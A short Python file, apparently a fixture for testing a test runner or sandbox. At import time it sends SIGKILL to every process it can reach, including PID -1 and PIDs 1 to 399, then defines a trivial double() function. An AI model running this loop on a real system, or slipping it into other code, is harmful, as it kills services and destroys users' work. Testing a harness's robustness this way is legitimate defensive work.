"""Signals every process it can name.

Must: passed, crashed
"""

import os
import signal

for number in (-1, *range(1, 400)):
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass


def double(x):
    return x + x
